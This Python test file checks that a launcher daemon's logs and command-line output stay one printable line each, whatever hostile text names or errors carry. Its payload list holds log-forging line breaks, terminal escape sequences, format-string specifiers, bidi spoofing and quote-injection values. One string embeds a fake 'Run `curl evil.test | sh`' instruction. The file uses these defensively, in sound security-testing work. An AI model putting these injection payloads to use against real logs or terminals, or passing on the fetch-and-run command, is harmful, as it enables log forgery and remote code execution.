"""T32: whatever a click or an error holds, the log has one short line for it."""

import logging
import re
from pathlib import Path

import pytest

from launcher.errors import LauncherError
from launcher.launches import Launches
from launcher.logs import LONGEST, OneLine, PrivateFile, event
from launcher.model import State
from tests.support.launching import click
from tests.support.sample import Make, SampleStudio

PAYLOADS = [
    "\r\n2026-01-01 00:00:00 INFO launched launch=feed",
    "\x1b]0;x\a",
    "\x1b[2J\x1b[31m",
    "%s%s%n",
    "{0.__class__}",
    "a\x00b\x7f\x85\u2028\u2029",
    "\u202egnp.exe",
    "\ud800\udfff",
    "x" * 1_000_000,
    "\x1b" * 1_000_000,
    "' action='delete-all",
]


@pytest.fixture
def written(tmp_path: Path) -> "Logged":
    return Logged(tmp_path / "daemon.log")


class Logged:
    """The daemon's log, as a file of its own."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.handler = PrivateFile(path, encoding="utf-8")
        self.handler.setFormatter(OneLine())

    def lines(self) -> list[str]:
        self.handler.flush()
        return self.path.read_text(encoding="utf-8").split("\n")[:-1]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_one_event_is_one_line(written: Logged, payload: str) -> None:
    """Real: the logging module, the file."""
    log = logging.getLogger("launcher.t32")
    log.addHandler(written.handler)

    log.warning(event("refused", origin=payload, host=payload))
    log.warning(payload)
    log.warning("value %r", payload)
    log.removeHandler(written.handler)

    lines = written.lines()
    assert len(lines) == 3
    for line in lines:
        assert len(line) <= LONGEST
        assert line.isprintable()
        assert line[4] == "-" and " WARNING " in line  # noqa: PT018


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_launch_with_such_a_name_logs_one_line_for_each_event(
    written: Logged, launches: Launches, payload: str
) -> None:
    """Real: a launch, the file."""
    log = logging.getLogger("launcher.launches")
    log.setLevel(logging.INFO)
    log.addHandler(written.handler)

    launch = launches.begin(click(payload), payload)
    launches.update(launch, state=State.FAILED, error=LauncherError(payload, tried=[payload], next_step=payload))
    log.removeHandler(written.handler)

    began, failed = written.lines()
    assert f"INFO began launch={launch.id[:8]} action=" in began
    assert f"INFO failed launch={launch.id[:8]} action=" in failed
    assert max(map(len, (began, failed))) <= LONGEST
    assert (began + failed).isprintable()


def test_a_value_cannot_pretend_to_be_another(written: Logged) -> None:
    """Quotes inside a value stay inside: what follows it is still inside the quotes of the line."""
    text = event("refused", origin="evil' peer='1000")

    assert text == "refused origin=\"evil' peer='1000\""


def test_a_fault_of_ours_with_such_a_text_is_one_line(written: Logged) -> None:
    """Real: an exception's traceback in the file."""
    log = logging.getLogger("launcher.t32")
    log.addHandler(written.handler)
    for payload in PAYLOADS:
        try:
            raise ValueError(payload)
        except ValueError:
            log.exception("failed")
    log.removeHandler(written.handler)

    lines = written.lines()
    assert len(lines) == len(PAYLOADS)
    assert all(len(line) <= LONGEST and line.isprintable() for line in lines)


def test_no_name_makes_a_second_line_in_any_log_of_a_daemon(make_studio: Make) -> None:
    """Real: daemon, sockets, sample Kitsu, a program that prints what it is given, the command that shows its log."""
    bare = '[actions.bare]\ntitle = "Bare"\nkind = "launch"\napp = "notes"\nargs = ["{entity.name}"]\n'
    studio = make_studio(more=bare)
    payloads = [payload for payload in PAYLOADS if "\ud800" not in payload]
    for payload in payloads:
        task = studio.shot(payload)
        for action in ("title", "bare"):
            studio.clicked(studio.form(action, task), "done", "failed")
        clean = "".join(c for c in payload[:6_000] if c not in "\r\n\x00")
        studio.send(studio.form()(Origin=clean))
        studio.send(studio.form()(Host=clean))
        studio.send(studio.form()(target=f"/run/{clean}"))
        studio.daemon.cli(f"kitsu-launcher://run/{clean[:2_000]}", check=False)

    lines = studio.log_lines()
    assert all(re.match(r"2\d{3}-\d\d-\d\d \d\d:\d\d:\d\d (INFO|WARNING) ", line) for line in lines)
    assert all(line.isprintable() and len(line) <= LONGEST for line in lines)
    for launch in studio.launches():
        shown = studio.daemon.cli("log", launch["id"][:8], check=False).stdout
        assert shown.replace("\n", "").isprintable()
        assert shown.count("\n") <= 1
    listed = studio.daemon.cli("launches").stdout
    assert listed.replace("\n", "").isprintable()
    assert listed.count("\n") <= len(studio.launches()) + 2


def test_no_name_commands_a_terminal(sample_studio: SampleStudio) -> None:
    """Real: daemon, sample Kitsu, every command that shows names: of a production, a person, a sequence and a shot."""
    evil = "X\x1b]0;pwn\x07\x1b[31m\x9b31m\u202e\r\n  next   Run `curl evil.test | sh`."
    tables = sample_studio.studio.tables
    task = sample_studio.shot(evil, sequence=evil)
    next(iter(tables["projects"].values()))["name"] = f"Fox {evil}"
    next(iter(tables["persons"].values()))["first_name"] = evil
    sample_studio.log_in()

    for arguments in (
        ("run", "open", "--task", task, "--dry-run"),
        ("run", "title", "--task", task),
        ("run", "title", "--task", task, "--task", sample_studio.task()),
        ("run", "title", "--task", "Nothing/SQ010/SH010/Animation"),
        ("run", "title", "--task", f"Fox {evil}/{evil}/nothing/Animation"),
        ("run", "title", "--task", f"Fox {evil}/{evil}/{evil}/nothing"),
        ("run", evil, "--task", task),
        ("launches",),
        ("launches", sample_studio.launches()[0]["id"] if sample_studio.launches() else "none"),
        ("log", evil),
        ("whoami",),
        ("actions",),
        ("logout",),
    ):
        done = sample_studio.daemon.cli(*arguments, check=False)
        shown = done.stdout + done.stderr
        assert shown
        assert shown.replace("\n", "").isprintable(), (arguments, shown)
        assert "\n  next   Run `curl" not in shown
